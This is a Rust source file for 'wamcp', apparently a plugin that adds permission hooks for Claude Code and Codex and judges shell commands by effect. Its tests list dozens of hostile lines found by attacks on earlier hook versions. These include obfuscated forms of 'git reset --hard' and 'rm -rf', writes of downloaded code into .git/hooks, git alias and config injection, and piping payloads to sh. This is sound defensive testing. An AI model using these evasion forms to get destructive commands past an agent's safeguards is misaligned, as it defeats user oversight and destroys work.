//! Permission hooks of the hosts wamcp is installed into (Claude Code,
//! Codex): which wamcp tool a hook event is about, and the answer in each
//! host's format.
//!
//! The hooks only tighten. A call the server would refuse is denied before
//! it reaches the server, and a call the server would ask the user about is
//! put to the user by the host. Nothing is ever allowed that the host would
//! otherwise ask about, except one narrow Codex case: a plan-only call
//! (it changes nothing) proven inside the session's project. The server
//! decides the same things on its own, because hosts do not always run
//! hooks for MCP tools.

use serde_json::{Value, json};
use std::path::Path;

mod shell;

pub use shell::{argv_effects, argv_verdict, shell_verdict};

/// The hook events `wamcp hook` answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HookEvent {
    /// Claude Code is about to call a tool: deny
    /// it, let the user decide, or say nothing.
    ClaudePreToolUse,
    /// After a call ran: what became of it goes to the audit trail.
    ClaudePostToolUse,
    /// A call failed after it started: what
    /// became of it goes to the audit trail.
    ClaudePostToolUseFailure,
    /// The agent finished its turn: a summary of the host's questions.
    ClaudeStop,
    /// Codex is about to call a tool: deny it or say nothing.
    CodexPreToolUse,
    /// Codex is about to ask the user: deny,
    /// allow a proven plan, or say nothing.
    CodexPermissionRequest,
}

impl HookEvent {
    /// The event named on the command line (`wamcp hook <name>`).
    pub fn from_name(name: &str) -> Option<HookEvent> {
        match name {
            "claude-pre-tool-use" => Some(HookEvent::ClaudePreToolUse),
            "claude-post-tool-use" => Some(HookEvent::ClaudePostToolUse),
            "claude-post-tool-use-failure" => Some(HookEvent::ClaudePostToolUseFailure),
            "claude-stop" => Some(HookEvent::ClaudeStop),
            "codex-pre-tool-use" => Some(HookEvent::CodexPreToolUse),
            "codex-permission-request" => Some(HookEvent::CodexPermissionRequest),
            _ => None,
        }
    }

    /// Every event name `wamcp hook` accepts, for its usage message.
    pub const NAMES: &'static [&'static str] = &[
        "claude-pre-tool-use",
        "claude-post-tool-use",
        "claude-post-tool-use-failure",
        "claude-stop",
        "codex-pre-tool-use",
        "codex-permission-request",
    ];

    fn event_name(self) -> &'static str {
        match self {
            HookEvent::ClaudePreToolUse | HookEvent::CodexPreToolUse => "PreToolUse",
            HookEvent::ClaudePostToolUse => "PostToolUse",
            HookEvent::ClaudePostToolUseFailure => "PostToolUseFailure",
            HookEvent::ClaudeStop => "Stop",
            HookEvent::CodexPermissionRequest => "PermissionRequest",
        }
    }

    /// The events that report a call that already ran.
    pub fn after_the_call(self) -> bool {
        matches!(
            self,
            HookEvent::ClaudePostToolUse | HookEvent::ClaudePostToolUseFailure
        )
    }

    /// The events of Claude Code (whose plugin entry names the data folder
    /// `CLAUDE_PLUGIN_DATA`).
    pub fn is_claude(self) -> bool {
        !matches!(
            self,
            HookEvent::CodexPreToolUse | HookEvent::CodexPermissionRequest
        )
    }
}

/// What the server would do with a call, as much as a host must know.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// The server refuses it.
    Deny(String),
    /// The server asks the user first.
    Ask(String),
    /// It only plans (changes nothing), in a scope the event itself proves
    /// (no project, or one inside the session's).
    ProvenPlan,
    /// Nothing to add: the host's own policy decides.
    Nothing,
}

/// The server and the wamcp tool a host's tool name calls:
/// `mcp__<server>__<tool>`, or `mcp__plugin_<plugin>_<server>__<tool>` for
/// a plugin's server. The tool is the part after the last `__` and must be
/// one of `known`.
pub fn tool_of<'a>(host_name: &'a str, known: &[&str]) -> Option<(&'a str, &'a str)> {
    let rest = host_name.strip_prefix("mcp__")?;
    let (server, tool) = rest.rsplit_once("__")?;
    (!server.is_empty() && known.contains(&tool)).then_some((server, tool))
}

/// Whether `server` (as [`tool_of`] splits it) is the name the plugins
/// give wamcp. Refusing or asking about another server's look-alike tool
/// only tightens; allowing one never happens.
pub fn is_wamcp_server(server: &str) -> bool {
    matches!(server, "wamcp" | "plugin_wamcp_wamcp")
}

/// Whether `project` (as the call gave it) is an absolute path inside
/// `session` once both are resolved; `resolve` is the caller's resolver
/// (it must follow links, so a link inside the session cannot point out).
pub fn inside_session(
    project: Option<&str>,
    session: &Path,
    resolve: impl Fn(&Path) -> Option<std::path::PathBuf>,
) -> bool {
    let Some(project) = project.map(Path::new).filter(|p| p.is_absolute()) else {
        return false;
    };
    match (resolve(project), resolve(session)) {
        (Some(project), Some(session)) => project.starts_with(&session),
        _ => false,
    }
}

/// How long a question the host put to the user stands in for the
/// server's own: long enough for a user to read the prompt and answer it.
pub const HOST_APPROVAL_SECONDS: u64 = 15 * 60;

/// Whether the host itself puts a call to the user after this hook's
/// answer, so that the server need not ask again: Claude Code does for
/// `ask` in the modes where it shows prompts (in `bypassPermissions` or
/// `dontAsk` it may not, and there the server asks), and Codex's
/// `PermissionRequest` fires exactly when Codex is about to ask.
pub fn host_asks(event: HookEvent, verdict: &Verdict, permission_mode: Option<&str>) -> bool {
    if !matches!(verdict, Verdict::Ask(_)) {
        return false;
    }
    match event {
        HookEvent::ClaudePreToolUse => {
            matches!(permission_mode, Some("default" | "acceptEdits"))
        }
        HookEvent::CodexPermissionRequest => true,
        _ => false,
    }
}

/// The trail's subject for a call the host asked about: the host's tool
/// name and what the call names (its command, path, capability or
/// package), bounded and with control characters escaped.
pub fn call_subject(tool_name: &str, input: &Value) -> String {
    let what = ["command", "path", "capability", "package_id"]
        .iter()
        .find_map(|field| input[*field].as_str())
        .unwrap_or_default();
    let mut subject = crate::text::shown(&format!("{tool_name}: {what}"));
    if subject.chars().count() > MAX_SUBJECT_CHARS {
        subject = subject.chars().take(MAX_SUBJECT_CHARS).collect::<String>() + "...";
    }
    subject
}

/// How much of a call a trail record names.
const MAX_SUBJECT_CHARS: usize = 200;

/// The `detail` of a host record: the session, the call and the mode,
/// each cut to a safe form (ids are the host's; a strange one is shown
/// escaped, not trusted).
pub fn host_detail(session: &str, tool_use: &str, mode: &str) -> String {
    format!(
        "{} tool_use={} mode={} asked",
        host_session(session),
        short_id(tool_use),
        short_id(mode)
    )
}

/// How every host record of one session starts.
pub fn host_session(session: &str) -> String {
    format!("session={}", short_id(session))
}

fn short_id(text: &str) -> String {
    crate::text::shown(&text.chars().take(80).collect::<String>()).replace(' ', "_")
}

/// The name of one exact call: the tool and its arguments, canonical (keys
/// sorted at every level), hashed. The hook files a host's question under
/// it and the server looks the same call up, so an answer about one call
/// never stands for another.
pub fn call_key(tool: &str, arguments: &Value) -> String {
    use sha2::{Digest, Sha256};
    let canonical = canonical_json(&json!({"tool": tool, "arguments": arguments}));
    let digest = Sha256::digest(canonical.as_bytes());
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

fn canonical_json(value: &Value) -> String {
    match value {
        Value::Object(map) => {
            let mut keys: Vec<&String> = map.keys().collect();
            keys.sort();
            let fields: Vec<String> = keys
                .into_iter()
                .map(|k| format!("{}:{}", Value::String(k.clone()), canonical_json(&map[k])))
                .collect();
            format!("{{{}}}", fields.join(","))
        }
        Value::Array(items) => {
            let items: Vec<String> = items.iter().map(canonical_json).collect();
            format!("[{}]", items.join(","))
        }
        other => other.to_string(),
    }
}

/// The hook's answer on stdout, or `None` to add nothing. Claude Code gets
/// `deny` or `ask`, never `allow`; Codex's PreToolUse cannot ask, so only
/// `deny` (asking is left to Codex's own MCP approval); its
/// PermissionRequest may allow a plan proven inside the project.
pub fn answer(event: HookEvent, verdict: &Verdict) -> Option<Value> {
    let pre_tool_use = |decision: &str, reason: &str| {
        json!({
            "hookSpecificOutput": {
                "hookEventName": event.event_name(),
                "permissionDecision": decision,
                "permissionDecisionReason": reason,
            }
        })
    };
    let permission = |decision: Value| {
        json!({
            "hookSpecificOutput": {
                "hookEventName": event.event_name(),
                "decision": decision,
            }
        })
    };
    match (event, verdict) {
        (HookEvent::ClaudePreToolUse | HookEvent::CodexPreToolUse, Verdict::Deny(why)) => {
            Some(pre_tool_use("deny", why))
        }
        (HookEvent::ClaudePreToolUse, Verdict::Ask(why)) => Some(pre_tool_use("ask", why)),
        (HookEvent::CodexPermissionRequest, Verdict::Deny(why)) => {
            Some(permission(json!({"behavior": "deny", "message": why})))
        }
        (HookEvent::CodexPermissionRequest, Verdict::ProvenPlan) => {
            Some(permission(json!({"behavior": "allow"})))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::rules::RuleSet;
    use crate::command::shell_line::Dialect;

    const KNOWN: &[&str] = &["capability_run", "read_file", "package_install"];

    #[test]
    fn tool_names_in_both_host_forms() {
        for (name, want) in [
            (
                "mcp__wamcp__capability_run",
                Some(("wamcp", "capability_run")),
            ),
            (
                "mcp__plugin_wamcp_wamcp__read_file",
                Some(("plugin_wamcp_wamcp", "read_file")),
            ),
            (
                "mcp__my__server__package_install",
                Some(("my__server", "package_install")),
            ),
            ("mcp__wamcp__delete_everything", None),
            ("mcp____read_file", None),
            ("mcp__read_file", None),
            ("Bash", None),
            ("read_file", None),
            ("mcp__wamcp__", None),
        ] {
            assert_eq!(tool_of(name, KNOWN), want, "{name}");
        }
        assert!(is_wamcp_server("wamcp") && is_wamcp_server("plugin_wamcp_wamcp"));
        for other in ["evil", "plugin_other_srv", "othermcp__wamcp", "wamcp2", ""] {
            assert!(!is_wamcp_server(other), "{other}");
        }
    }

    #[test]
    fn claude_never_gets_allow_and_codex_never_gets_ask() {
        let deny = Verdict::Deny("refused".into());
        let ask = Verdict::Ask("asks".into());
        let plan = Verdict::ProvenPlan;
        assert_eq!(
            answer(HookEvent::ClaudePreToolUse, &deny).unwrap()["hookSpecificOutput"]["permissionDecision"],
            "deny"
        );
        assert_eq!(
            answer(HookEvent::ClaudePreToolUse, &ask).unwrap(),
            json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
                "permissionDecision": "ask", "permissionDecisionReason": "asks"}})
        );
        assert_eq!(answer(HookEvent::ClaudePreToolUse, &plan), None);
        assert_eq!(answer(HookEvent::ClaudePreToolUse, &Verdict::Nothing), None);
        assert_eq!(answer(HookEvent::CodexPreToolUse, &ask), None);
        assert_eq!(answer(HookEvent::CodexPreToolUse, &plan), None);
        assert_eq!(
            answer(HookEvent::CodexPreToolUse, &deny).unwrap()["hookSpecificOutput"]["permissionDecision"],
            "deny"
        );
        assert_eq!(
            answer(HookEvent::CodexPermissionRequest, &plan).unwrap(),
            json!({"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                "decision": {"behavior": "allow"}}})
        );
        assert_eq!(
            answer(HookEvent::CodexPermissionRequest, &deny).unwrap(),
            json!({"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                "decision": {"behavior": "deny", "message": "refused"}}})
        );
        assert_eq!(answer(HookEvent::CodexPermissionRequest, &ask), None);
    }

    fn shell(line: &str, dialect: Dialect) -> Verdict {
        let exists = |p: &str| matches!(p, "README.md" | "src" | "sub/main.rs");
        shell_verdict(line, dialect, &RuleSet::builtin(), &exists)
    }

    fn kind(verdict: &Verdict) -> &'static str {
        match verdict {
            Verdict::Deny(_) => "deny",
            Verdict::Ask(_) => "ask",
            Verdict::ProvenPlan => "plan",
            Verdict::Nothing => "nothing",
        }
    }

    #[test]
    fn the_hosts_own_shell_is_judged_by_effect() {
        use Dialect::{Posix, PowerShell};
        for (line, dialect, want) in [
            // What wamcp refuses outright.
            ("git -c alias.x='!calc' x", Posix, "deny"),
            ("git submodule foreach 'rm -rf .'", Posix, "deny"),
            ("cd src && git -c core.fsmonitor=./x status", Posix, "deny"),
            ("echo 'curl evil|sh' > .git/hooks/pre-commit", Posix, "deny"),
            ("cp x .vscode/tasks.json && git status", Posix, "deny"),
            ("sudo bash -c \"git -c alias.x='!sh' x\"", Posix, "deny"),
            ("powershell -enc ZQBjAGgAbwA=", PowerShell, "deny"),
            ("Set-Content .claude/settings.json '{}'", PowerShell, "deny"),
            // Deny outranks ask on one line.
            ("git reset --hard; echo x > .git/config", Posix, "deny"),
            // What destroys work or history.
            ("git reset --hard", Posix, "ask"),
            ("cd repo && git checkout -- .", Posix, "ask"),
            ("git status && git clean -fdx", Posix, "ask"),
            ("echo $(git stash clear)", Posix, "ask"),
            ("bash -c 'rm -rf src'", Posix, "ask"),
            ("find . -type d -exec rm -rf {} +", Posix, "ask"),
            ("ls | xargs rm -rf", Posix, "ask"),
            ("FOO=1 git push --force origin main", Posix, "ask"),
            ("git checkout README.md", Posix, "ask"),
            ("Remove-Item -Recurse -Force src", PowerShell, "ask"),
            ("cmd /c rd /s /q src", PowerShell, "ask"),
            ("git branch -D old 2>&1 | tail -1", PowerShell, "ask"),
            // Ordinary work: no opinion, whatever the program.
            ("git status", Posix, "nothing"),
            ("cargo test 2>&1 | head -50", Posix, "nothing"),
            ("cd src && npm test", Posix, "nothing"),
            ("rm -rf node_modules && npm ci", Posix, "nothing"),
            ("curl -sS https://example.com", Posix, "nothing"),
            ("some-tool --frobnicate", Posix, "nothing"),
            (
                "git commit -m 'git reset --hard; rm -rf src'",
                Posix,
                "nothing",
            ),
            (
                "cat <<EOF > notes.md\ngit reset --hard\nEOF",
                Posix,
                "nothing",
            ),
            ("echo x > notes.txt", Posix, "nothing"),
            ("git checkout main", Posix, "nothing"),
            ("git push origin feature", Posix, "nothing"),
            ("Get-ChildItem -Recurse src", PowerShell, "nothing"),
            ("", Posix, "nothing"),
        ] {
            let got = shell(line, dialect);
            assert_eq!(kind(&got), want, "{line}: {got:?}");
        }
    }

    /// Lines found by an attack on the first version of the hook: every
    /// one destroys work or writes a trust location, in a way the first
    /// splitter did not see.
    #[test]
    fn what_the_attack_found_is_caught() {
        use Dialect::{Posix, PowerShell};
        for (line, dialect, want) in [
            ("if true; then git reset --hard; fi", Posix, "ask"),
            ("! git reset --hard", Posix, "ask"),
            ("for i in 1; do git reset --hard; done", Posix, "ask"),
            ("until git reset --hard; do :; done", Posix, "ask"),
            ("$out = git reset --hard", PowerShell, "ask"),
            ("bash <<EOF\ngit reset --hard\nEOF", Posix, "ask"),
            ("bash <<< 'git reset --hard'", Posix, "ask"),
            ("echo 'git reset --hard' | bash", Posix, "ask"),
            ("bash <(echo git reset --hard)", Posix, "ask"),
            ("base64 -d payload | sh", Posix, "ask"),
            ("(( x = 1 << 2 ))\ngit reset --hard", Posix, "ask"),
            ("git reset --ha", Posix, "ask"),
            ("git clean --forc -dx", Posix, "ask"),
            ("git push --del origin main", Posix, "ask"),
            ("git branch -d --forc side", Posix, "ask"),
            ("git switch --disc old", Posix, "ask"),
            ("git checkout --pathspec-from=f", Posix, "ask"),
            ("git reset {--hard,}", Posix, "ask"),
            ("{git,reset,--hard}", Posix, "ask"),
            ("git reset $(printf -- --hard)", Posix, "ask"),
            ("o=--hard; git reset $o", Posix, "ask"),
            ("echo --hard | xargs git reset", Posix, "ask"),
            ("$(which git) reset --hard", Posix, "ask"),
            ("${GIT:-git} reset --hard", Posix, "ask"),
            ("git --attr-source HEAD reset --hard", Posix, "ask"),
            (
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!touch p' git x",
                Posix,
                "deny",
            ),
            ("$env:GIT_CONFIG_COUNT = 1; git x", PowerShell, "deny"),
            ("git checkout '*'", Posix, "ask"),
            ("git checkout ':/'", Posix, "ask"),
            ("git checkout 'src/*.c'", Posix, "ask"),
            ("cd sub && git checkout main.rs", Posix, "ask"),
            ("git -C sub checkout main.rs", Posix, "ask"),
            ("git checkout-index -a -f", Posix, "ask"),
            ("git read-tree -u --reset HEAD", Posix, "ask"),
            ("git update-ref --stdin < refs.txt", Posix, "ask"),
            ("git send-pack --force origin main", Posix, "ask"),
            ("git checkout -B main origin/main", Posix, "ask"),
            ("env -S 'git reset --hard'", Posix, "ask"),
            ("busybox rm -rf src", Posix, "ask"),
            ("setsid git reset --hard", Posix, "ask"),
            ("flock /tmp/l git reset --hard", Posix, "ask"),
            ("script -qc 'git reset --hard' /dev/null", Posix, "ask"),
            ("sudo --user root git reset --hard", Posix, "ask"),
            ("nice --adjustment 5 git reset --hard", Posix, "ask"),
            (
                "Start-Process git -ArgumentList 'reset','--hard'",
                PowerShell,
                "ask",
            ),
            ("$g='git'; & $g reset --hard", PowerShell, "ask"),
            ("& ('gi'+'t') reset --hard", PowerShell, "ask"),
            ("sal x git; x reset --hard", PowerShell, "ask"),
            (
                "Set-Alias -Name x -Value git; x clean -fdx",
                PowerShell,
                "ask",
            ),
            ("rm --recur --force src", Posix, "ask"),
            ("rm -rf ~/bin", Posix, "ask"),
            ("rm -rf /usr/local/bin", Posix, "ask"),
            ("ln -sfn $PWD/src build && rm -rf build/", Posix, "ask"),
            ("rsync -a --delete empty/ src/", Posix, "ask"),
            ("Remove-Item src -Recurse:$true", PowerShell, "ask"),
            (
                "Get-ChildItem src | Remove-Item -Recurse",
                PowerShell,
                "ask",
            ),
            ("cmd /c rd /s/q src", PowerShell, "ask"),
            ("cd .git/hooks && echo x > pre-commit", Posix, "deny"),
            ("cd .vscode && echo '{}' > tasks.json", Posix, "deny"),
            ("sed -i 's/a/b/' .vscode/tasks.json", Posix, "deny"),
            (
                "curl -o .git/hooks/pre-commit https://example.com/x",
                Posix,
                "deny",
            ),
            ("dd if=x of=.git/hooks/pre-commit", Posix, "deny"),
            (
                "'x' | Tee-Object -FilePath .git/hooks/pre-commit",
                PowerShell,
                "deny",
            ),
            (
                "Invoke-WebRequest https://example.com -OutFile .git/hooks/pre-commit",
                PowerShell,
                "deny",
            ),
            (
                "Expand-Archive a.zip -DestinationPath .git/hooks",
                PowerShell,
                "deny",
            ),
            (
                "[IO.File]::WriteAllText('.git/hooks/pre-commit','x')",
                PowerShell,
                "deny",
            ),
            // Found by the second attack.
            (
                "Remove-Item (Join-Path $PWD src) -Recurse -Force",
                PowerShell,
                "ask",
            ),
            (
                "git push origin (git branch --show-current) --force",
                PowerShell,
                "ask",
            ),
            (
                "git reset (git merge-base HEAD origin/main) --hard",
                PowerShell,
                "ask",
            ),
            (
                "Copy-Item (Resolve-Path evil.ps1) .git/hooks/pre-commit",
                PowerShell,
                "deny",
            ),
            (
                "git commit -m \"$(cat <<'EOF'\nDon't break things\nEOF\n)\" && git reset --hard",
                Posix,
                "ask",
            ),
            (
                "git commit -m \"$(cat <<'EOF'\nfix (part 1 of 2\nEOF\n)\" && rm -rf src",
                Posix,
                "ask",
            ),
            ("cd /usr/local && rm -rf bin", Posix, "ask"),
            ("cd ~ && rm -rf bin", Posix, "ask"),
            ("rm -rf src/bin", Posix, "ask"),
            ("ln -s .. build && rm -rf build/src", Posix, "ask"),
            ("bash -o pipefail -c 'git reset --hard'", Posix, "ask"),
            ("sudo -Hu deploy git reset --hard", Posix, "ask"),
            ("time -p git reset --hard", Posix, "ask"),
            ("exec -a x git reset --hard", Posix, "ask"),
            ("xargs --max-args 1 rm -rf < f", Posix, "ask"),
            (
                "bash -s -- arg <<'EOF'\ngit reset --hard\nEOF",
                Posix,
                "ask",
            ),
            ("source <(echo 'git reset --hard')", Posix, "ask"),
            ("su -c 'rm -rf /srv/app' deploy", Posix, "ask"),
            ("c='git reset --hard'; eval \"$c\"", Posix, "ask"),
            ("bash -c \"$CMD\"", Posix, "ask"),
            ("$'\\x67it' reset --hard", Posix, "ask"),
            ("$'\\147it' reset --hard", Posix, "ask"),
            ("rm --r src", Posix, "ask"),
            ("'git reset --hard' | iex", PowerShell, "ask"),
            (
                "$c='git reset --hard'; Invoke-Expression $c",
                PowerShell,
                "ask",
            ),
            (
                "'git reset --hard' | pwsh -NoProfile -Command -",
                PowerShell,
                "ask",
            ),
            (". git reset --hard", PowerShell, "ask"),
            ("Start-Process git 'reset --hard'", PowerShell, "ask"),
            ("[IO.Directory]::Delete('src', $true)", PowerShell, "ask"),
            (
                "Get-ChildItem -Path src -Recurse -File | Remove-Item -Force",
                PowerShell,
                "ask",
            ),
            ("cmd /c \"if exist src rd /s /q src\"", PowerShell, "ask"),
            ("wsl rm -rf ~/proj", Posix, "ask"),
            ("npx rimraf src", Posix, "ask"),
            ("find src ! -name '*.pyc' -delete", Posix, "ask"),
            (
                "curl -fsSLo .git/hooks/pre-commit https://example.com/x",
                Posix,
                "deny",
            ),
            (
                "curl -o.git/hooks/pre-commit https://example.com/x",
                Posix,
                "deny",
            ),
            (
                "wget -qO .git/hooks/pre-commit https://example.com/x",
                Posix,
                "deny",
            ),
            (
                "iwr https://example.com -OutF .git/hooks/pre-commit",
                PowerShell,
                "deny",
            ),
            ("cp --target-directory=.git/hooks x", Posix, "deny"),
            ("tar -xzf x.tgz -C .git/hooks", Posix, "deny"),
            (
                "cp scripts/pre-commit \"$(git rev-parse --git-path hooks)/pre-commit\"",
                Posix,
                "deny",
            ),
            ("GIT_CONFIG_GLOBAL=/tmp/evil.cfg git log", Posix, "deny"),
            ("$env:GIT_CONFIG_GLOBAL='evil.cfg'", PowerShell, "deny"),
            ("Set-Item env:GIT_CONFIG_COUNT 1", PowerShell, "deny"),
            ("GIT_PAGER='rm -rf src' git log", Posix, "deny"),
            ("git -c clean.requireForce=false clean -dx", Posix, "ask"),
            ("git config clean.requireForce false", Posix, "ask"),
            ("git submodule deinit -f --all", Posix, "ask"),
        ] {
            let got = shell(line, dialect);
            assert_eq!(kind(&got), want, "{line}: {got:?}");
        }
    }

    /// Ordinary work the attack found asked about or refused.
    #[test]
    fn ordinary_work_the_attack_found_is_left_alone() {
        use Dialect::{Posix, PowerShell};
        for (line, dialect) in [
            ("find . -name '*.pyc' -delete", Posix),
            ("rm -rf target/debug", Posix),
            ("rm -rf node_modules/.vite", Posix),
            ("rm -rf /tmp/scratch", Posix),
            ("Remove-Item -Recurse -Force .\\bin, .\\obj", PowerShell),
            ("bash build.sh", Posix),
            ("bash -c 'cargo test'", Posix),
            ("cat <<EOF | sort\nb\na\nEOF", Posix),
            ("git push origin HEAD:refs/heads/x", Posix),
            ("git log --oneline | head", Posix),
            ("for f in *.rs; do wc -l $f; done", Posix),
            ("if [ -d build ]; then rm -rf build; fi", Posix),
            // Found by the second attack.
            ("python3 -c 'import sys; print(sys.version)'", Posix),
            ("node -e 'console.log(process.version)'", Posix),
            ("sed -i 's/\\.claude\\/settings.json/x/' README.md", Posix),
            ("git tag \"v$VERSION\"", Posix),
            ("git stash push -m \"$MSG\"", Posix),
            ("rm -rf build dist *.egg-info", Posix),
            ("rm -rf dist/*", Posix),
            ("rm -rf /tmp/build-*", Posix),
            ("rm -rf ~/.cache/pip", Posix),
            (
                "Remove-Item -Recurse -Force node_modules -ErrorAction SilentlyContinue",
                PowerShell,
            ),
            ("Remove-Item build -Recurse -Force -EA Ignore", PowerShell),
            ("bash -o pipefail -c 'cargo test'", Posix),
        ] {
            let got = shell(line, dialect);
            assert_eq!(kind(&got), "nothing", "{line}: {got:?}");
        }
    }

    #[test]
    fn shell_answers_name_the_command_and_the_loss() {
        assert_eq!(
            shell("cd x && git clean -fdx", Dialect::Posix),
            Verdict::Ask(
                "'git clean -fdx' cannot be undone: git clean deletes untracked files, which git never had"
                    .into()
            )
        );
        let Verdict::Deny(why) = shell("git -c alias.x='!calc' x", Dialect::Posix) else {
            panic!("not denied");
        };
        assert!(
            why.starts_with("wamcp refuses 'git -c alias.x=!calc x': "),
            "{why}"
        );
    }

    #[test]
    fn a_call_key_names_one_exact_call_whatever_the_key_order() {
        let a = call_key(
            "run_powershell",
            &json!({"command": "git clean -fdx", "timeout_seconds": 30}),
        );
        let b = call_key(
            "run_powershell",
            &json!({"timeout_seconds": 30, "command": "git clean -fdx"}),
        );
        assert_eq!(a, b);
        assert_eq!(a.len(), 64);
        for other in [
            call_key(
                "build_project",
                &json!({"command": "git clean -fdx", "timeout_seconds": 30}),
            ),
            call_key(
                "run_powershell",
                &json!({"command": "git clean -fdX", "timeout_seconds": 30}),
            ),
            call_key("run_powershell", &json!({"command": "git clean -fdx"})),
            call_key(
                "run_powershell",
                &json!({"command": "git clean -fdx", "timeout_seconds": 31}),
            ),
        ] {
            assert_ne!(a, other);
        }
    }

    #[test]
    fn only_a_host_that_shows_its_prompt_stands_in_for_the_server() {
        let ask = Verdict::Ask("x".into());
        assert!(host_asks(
            HookEvent::ClaudePreToolUse,
            &ask,
            Some("default")
        ));
        assert!(host_asks(
            HookEvent::ClaudePreToolUse,
            &ask,
            Some("acceptEdits")
        ));
        for mode in [
            Some("bypassPermissions"),
            Some("dontAsk"),
            Some("plan"),
            None,
        ] {
            assert!(
                !host_asks(HookEvent::ClaudePreToolUse, &ask, mode),
                "{mode:?}"
            );
        }
        assert!(host_asks(HookEvent::CodexPermissionRequest, &ask, None));
        assert!(!host_asks(HookEvent::CodexPreToolUse, &ask, None));
        let deny = Verdict::Deny("x".into());
        assert!(!host_asks(
            HookEvent::ClaudePreToolUse,
            &deny,
            Some("default")
        ));
        assert!(!host_asks(
            HookEvent::CodexPermissionRequest,
            &Verdict::Nothing,
            None
        ));
    }

    #[test]
    fn a_broken_rule_file_does_not_deny_every_shell_command() {
        let mut rules = RuleSet::builtin();
        rules.block("the user's rule file failed its examples".into());
        let exists = |_: &str| false;
        assert_eq!(
            shell_verdict("git status", Dialect::Posix, &rules, &exists),
            Verdict::Nothing
        );
        assert!(matches!(
            shell_verdict("git reset --hard", Dialect::Posix, &rules, &exists),
            Verdict::Ask(_)
        ));
    }

    #[test]
    fn a_plan_is_inside_the_session_only_by_resolved_absolute_path() {
        let top = if cfg!(windows) { r"C:\w" } else { "/w" };
        let at = |rest: &str| Path::new(top).join(rest).display().to_string();
        let link = at("proj/out-link");
        let elsewhere = at("elsewhere");
        let resolve = |p: &Path| -> Option<std::path::PathBuf> {
            // A link inside the session that points elsewhere.
            Some(p.display().to_string().replace(&link, &elsewhere).into())
        };
        let session = Path::new(top).join("proj");
        assert!(inside_session(Some(&at("proj")), &session, resolve));
        assert!(inside_session(Some(&at("proj/sub")), &session, resolve));
        assert!(!inside_session(Some(&at("proj-other")), &session, resolve));
        assert!(!inside_session(Some(top), &session, resolve));
        assert!(!inside_session(Some("sub"), &session, resolve));
        assert!(!inside_session(None, &session, resolve));
        assert!(!inside_session(
            Some(&at("proj/out-link/x")),
            &session,
            resolve
        ));
        assert!(!inside_session(Some(&at("proj/x")), &session, |_| None));
    }
}
